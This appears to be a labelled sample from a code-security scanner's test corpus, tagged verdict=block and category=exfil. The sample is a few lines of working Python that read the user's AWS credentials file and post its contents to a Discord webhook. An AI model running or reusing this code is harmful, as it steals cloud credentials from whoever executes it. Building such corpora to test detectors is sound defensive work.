# pyguard-corpus: verdict=block category=exfil rules=PG601,PG604,PG606
# what: sends ~/.aws/credentials to a Discord webhook as a chat message
from pathlib import Path

import requests

WEBHOOK = "https://discord.com/api/webhooks/112233445566778899/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"

credentials = (Path.home() / ".aws" / "credentials").read_text()
requests.post(WEBHOOK, json={"content": f"```{credentials}```"}, timeout=10)
